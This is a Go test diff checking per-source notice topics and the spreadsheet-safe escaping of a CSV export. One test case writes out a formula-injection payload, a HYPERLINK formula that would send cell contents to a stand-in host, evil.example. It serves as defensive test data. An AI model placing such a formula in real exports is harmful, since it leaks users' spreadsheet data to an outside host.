@@ -178,6 +178,31 @@ func checkNoticesTopic(t *testing.T, data string, notices []resindex.Notice) {
 	if !slices.Equal(got, slices.Sorted(maps.Keys(want))) {
 		t.Errorf("resindex.notices holds\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(slices.Sorted(maps.Keys(want)), "\n"))
 	}
+	// Per source: serve again with --notices-per-source; each source's
+	// topic then holds exactly its own messages, from the first notice,
+	// and the one topic nothing more.
+	code = run(context.Background(), []string{"serve", "--data", data, "--brokers", strings.Join(addr, ","), "--topics", "all",
+		"--notices-per-source", "--stop-when-idle", "1500ms", "--quiet"}, &env{stdout: &out, stderr: &errb})
+	if code != 0 {
+		t.Fatalf("serve --notices-per-source: exit %d\n%s", code, errb.String())
+	}
+	var all []string
+	for _, src := range resindex.Sources {
+		got := readTopic(t, addr[0], "resindex.notices."+src, 2)
+		for _, m := range got {
+			if !strings.HasPrefix(m, src+"\t") {
+				t.Errorf("resindex.notices.%s holds a message for another source: %s", src, m)
+			}
+		}
+		all = append(all, got...)
+	}
+	slices.Sort(all)
+	if all = slices.Compact(all); !slices.Equal(all, slices.Sorted(maps.Keys(want))) {
+		t.Errorf("the per-source topics hold\n%s\nwant\n%s", strings.Join(all, "\n"), strings.Join(slices.Sorted(maps.Keys(want)), "\n"))
+	}
+	if again := readTopic(t, addr[0], "resindex.notices", 2); len(slices.Compact(slices.Sorted(slices.Values(again)))) != len(want) {
+		t.Errorf("resindex.notices holds %d messages after publishing per source; want the %d it had", len(again), len(want))
+	}
 }
 
 // readTopic reads every message of a topic's partitions as key, tab,
@@ -206,4 +231,45 @@ func readTopic(t *testing.T, addr, topic string, partitions int) []string {
 		conn.Close()
 	}
 	return out
+}
+
+// TestNoticesCSVSpreadsheetSafe: a cell a spreadsheet would take for a
+// formula is written with a single quote before it (record IDs come from
+// the sources as they are); other cells are written as they are.
+func TestNoticesCSVSpreadsheetSafe(t *testing.T) {
+	at := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
+	for _, c := range []struct {
+		name       string
+		records    []string
+		given      string
+		want, cell string // want: the cell read back from column cell
+	}{
+		{"plain", []string{"TEN0003042-01"}, "Anne", "TEN0003042-01", "record_ids"},
+		{"equals", []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`}, "Anne", `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "record_ids"},
+		{"plus", []string{"+44"}, "Anne", "'+44", "record_ids"},
+		{"minus", []string{"-1", "X"}, "Anne", "'-1;X", "record_ids"},
+		{"at", []string{"@SUM(A1)"}, "Anne", "'@SUM(A1)", "record_ids"},
+		{"tab", []string{"\t=1"}, "Anne", "'\t=1", "record_ids"},
+		{"carriage return", []string{"\r=1"}, "Anne", "'\r=1", "record_ids"},
+		{"inner equals kept", []string{"A=1"}, "Anne", "A=1", "record_ids"},
+		{"a name too", []string{"H1"}, "=1+1", "'=1+1", "given"},
+	} {
+		msg := resindex.NoticeMessage{Seq: 1, IssuedAt: at, Source: "housing", Records: c.records, Person: "P0000000001",
+			Field: "name", Name: &resindex.CorrectedName{Given: c.given, Family: "Lee"}}
+		var b bytes.Buffer
+		if err := writeNoticesCSV(&b, []resindex.NoticeMessage{msg}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%s: %d rows, %v", c.name, len(rows), err)
+		}
+		col := slices.Index(rows[0], c.cell)
+		if got := rows[1][col]; got != c.want {
+			t.Errorf("%s: %s %q; want %q", c.name, c.cell, got, c.want)
+		}
+		if rows[1][0] != "1" || rows[1][1] != "2026-11-01T09:00:00Z" || rows[1][slices.Index(rows[0], "family")] != "Lee" {
+			t.Errorf("%s: other cells changed: %q", c.name, rows[1])
+		}
+	}
 }
